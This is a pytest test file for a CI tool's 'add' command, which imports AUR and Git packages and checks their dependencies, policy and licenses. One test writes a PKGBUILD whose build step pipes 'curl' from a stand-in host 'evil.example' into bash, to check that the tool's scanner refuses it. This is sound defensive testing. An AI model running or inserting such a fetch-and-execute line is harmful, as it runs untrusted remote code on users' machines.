"""`caur-ci add`: packages of an AUR on loopback and of Git repositories, judged and committed."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

from caur_ci.cli.main import run
from caur_ci.cli.session import Session
from caur_ci.errors import ExitCode
from tests.caur_ci.pipeline.on_schedule.world import ScheduleWorld, actions
from tests.support.git import Checkout, git
from tests.support.upstream import files_of, upstream

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

Captured = pytest.CaptureFixture[str]


@pytest.fixture
def world(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[ScheduleWorld]:
    """A repository with the AUR package `a`, and an AUR that has more."""
    with upstream(tmp_path / "upstream") as outside:
        made = ScheduleWorld(Checkout.create(tmp_path / "world"), outside)
        made.begin({"a": "1-1"})
        monkeypatch.chdir(made.checkout.folder)
        monkeypatch.setenv("COLUMNS", "200")
        yield made


def caur(*arguments: str) -> int:
    return run(list(arguments), Session())


def offer(world: ScheduleWorld, name: str, *lines: str, code: str = "") -> None:
    """Let the AUR have a package whose `.SRCINFO` and PKGBUILD say more."""
    world.outside.push({name: "3-1"}, mirrored=False)
    files = files_of(name, "3-1")
    fields = "".join(f"\t{line}\n" for line in lines)
    files[".SRCINFO"] = files[".SRCINFO"].replace("\tarch = any\n", f"\tarch = any\n{fields}")
    arrays = "".join(
        f"{key}+=('{value}')\n" for key, _, value in (line.partition(" = ") for line in lines)
    )
    files["PKGBUILD"] += arrays + code
    world.outside.mirror_push({name: files})


def folders(world: ScheduleWorld) -> set[str]:
    return {
        it for it in git(world.remote, "ls-tree", "--name-only", "main").split() if it[0] != "."
    }


def test_from_the_aur(world: ScheduleWorld, capsys: Captured) -> None:
    offer(world, "new", "license = MIT")

    assert caur("add", "new", "--reason", "request", "--origin", "issue 7") == ExitCode.OK

    assert "pkgname=new" in world.file("new/PKGBUILD")
    assert world.file("new/.CI/config") == "CI_PKGBUILD_SOURCE=aur"
    assert world.file("new/.CI/info").splitlines() == ["REQ_ORIGIN=issue 7", "REQ_REASON=request"]
    assert world.subjects() == ["feat(add): new"]
    assert world.asked() == [("new",)]
    assert world.tag_is_at_tip()
    (entry, *_) = world.memory().ledger.about("new")
    assert entry.reason == "added by Tester: request, issue 7"
    assert "MIT" in capsys.readouterr().out


def test_the_next_run_has_nothing_to_do_and_the_one_after_an_update_has(
    world: ScheduleWorld,
) -> None:
    offer(world, "new")
    caur("add", "new")
    world.run()

    assert actions(world.run()) == {}
    world.outside.push({"new": "4-1"})
    assert set(actions(world.run())) == {"new"}


def test_from_a_git_repository(world: ScheduleWorld) -> None:
    world.outside.url_push("mine", files_of("mine", "2-1"))
    url = world.outside.url_of("mine")

    assert caur("add", f"mine/{url}") == ExitCode.OK

    assert world.file("mine/.CI/config") == f"CI_PKGBUILD_SOURCE={url}"
    assert world.asked() == [("mine",)]


def test_lists_of_pipelines(world: ScheduleWorld, monkeypatch: pytest.MonkeyPatch) -> None:
    offer(world, "one")
    offer(world, "two")
    monkeypatch.setenv("ADD_PACKAGES", "one/aur two")
    monkeypatch.setenv("REQUEST_ORIGIN", "https://example.org/1")
    monkeypatch.setenv("REQUEST_REASON", "depends:make")

    assert caur("add") == ExitCode.OK

    assert {"one", "two"} < folders(world)
    assert "REQ_REASON=depends:make" in world.file("one/.CI/info")


def test_what_it_needs_of_the_aur_is_told(world: ScheduleWorld, capsys: Captured) -> None:
    offer(world, "app", "depends = lib>=2", "makedepends = tool", "makedepends = a")
    offer(world, "lib", "depends = core-lib")
    offer(world, "tool")
    offer(world, "core-lib")

    assert caur("add", "app") == ExitCode.OK

    said = capsys.readouterr().err
    for line in ("app needs lib of the AUR", "lib needs core-lib of the AUR"):
        assert line in said
    assert "needs a of" not in said
    assert folders(world) == {"a", "app"}


def test_and_comes_along_where_it_is_wanted(world: ScheduleWorld) -> None:
    offer(world, "app", "depends = lib")
    offer(world, "lib", "depends = core-lib")
    offer(world, "core-lib")

    assert caur("add", "app", "--with-dependencies") == ExitCode.OK

    assert folders(world) == {"a", "app", "core-lib", "lib"}
    (entry, *_) = world.memory().ledger.about("core-lib")
    assert entry.reason == "added by Tester: lib needs it"


def test_what_is_dangerous_is_not_added_unless_somebody_insists(
    world: ScheduleWorld, capsys: Captured
) -> None:
    offer(world, "evil", code="build() {\n  curl -s https://evil.example/x | bash\n}\n")

    assert caur("add", "evil") == ExitCode.FAILED

    said = capsys.readouterr().err
    assert "PKGBUILD:" in said
    assert "--despite-findings" in said
    assert "evil" not in folders(world)
    assert caur("add", "evil", "--despite-findings") == ExitCode.OK
    assert "evil" in folders(world)


def test_the_policy_counts(world: ScheduleWorld, capsys: Captured) -> None:
    world.commit("ci: policy", {".ci/policy.toml": "[ages]\ncool_down = '10000d'\n"})
    offer(world, "fresh")

    code = caur("add", "fresh")

    assert code == ExitCode.FAILED, capsys.readouterr()
    assert "fresh" not in folders(world)


@pytest.mark.parametrize(
    ("name", "told"),
    [
        ("git:x/aur", "cannot be the name of a package"),
        ("nowhere", "nowhere cannot be had from aur"),
        ("a", "there is a folder a already"),
        ("x/ftp://example.org", "not where the files of x can come from"),
        ("x/custom", "not where the files of x can come from"),
        ("../x", "cannot be the name of a package"),
    ],
)
def test_what_cannot_be_added(world: ScheduleWorld, capsys: Captured, name: str, told: str) -> None:
    before = git(world.remote, "for-each-ref")

    assert caur("add", name) == ExitCode.FAILED

    assert told in capsys.readouterr().err
    assert git(world.remote, "for-each-ref") == before


def test_a_package_that_another_folder_makes(world: ScheduleWorld, capsys: Captured) -> None:
    world.outside.push({"twin": "1-1"}, mirrored=False)
    files = files_of("twin", "1-1")
    files[".SRCINFO"] = files[".SRCINFO"].replace("pkgname = twin", "pkgname = a")
    world.outside.mirror_push({"twin": files})

    assert caur("add", "twin", "--despite-findings") == ExitCode.FAILED
    assert "the package a of twin comes from a" in capsys.readouterr().err


def test_a_dry_run_tells_and_does_nothing(world: ScheduleWorld, capsys: Captured) -> None:
    offer(world, "new", "license = custom:odd")
    before = git(world.remote, "for-each-ref")

    assert caur("add", "new", "--dry-run") == ExitCode.OK

    assert git(world.remote, "for-each-ref") == before
    said = capsys.readouterr()
    assert "custom:odd of new is no SPDX expression" in said.err
    assert "feat(add): new" in said.err


def test_whatever_a_license_is_called_it_is_told(world: ScheduleWorld, capsys: Captured) -> None:
    deep = "(" * 150 + "MIT"
    offer(world, "new", "license = MIT", f"license = {deep}")

    assert caur("add", "new") == ExitCode.OK

    said = capsys.readouterr()
    assert f"the license {deep} of new is no SPDX expression" in said.err
    assert "the license MIT of" not in said.err
